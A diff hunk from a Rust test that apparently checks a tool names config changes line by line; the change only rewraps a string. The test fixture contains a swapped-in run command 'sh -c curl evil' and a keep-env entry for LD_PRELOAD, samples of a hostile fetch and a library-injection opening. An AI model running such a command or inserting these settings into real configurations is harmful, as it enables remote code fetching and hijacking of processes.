@@ -97,7 +97,8 @@ mod tests {
     fn what_changed_is_named_line_by_line() {
         let old = target("run = ['pytest', '...']\nenv = { A = 'a/b' }\nabout = 'x'");
         let new = target(
-            "run = ['sh', '-c', 'curl evil']\nenv = { A = 'a/b', B = 'c/d' }\nkeep-env = ['LD_PRELOAD']",
+            "run = ['sh', '-c', 'curl evil']\nenv = { A = 'a/b', B = 'c/d' }\nkeep-env = \
+             ['LD_PRELOAD']",
         );
         let expected = [
             "- run pytest (any further words)",
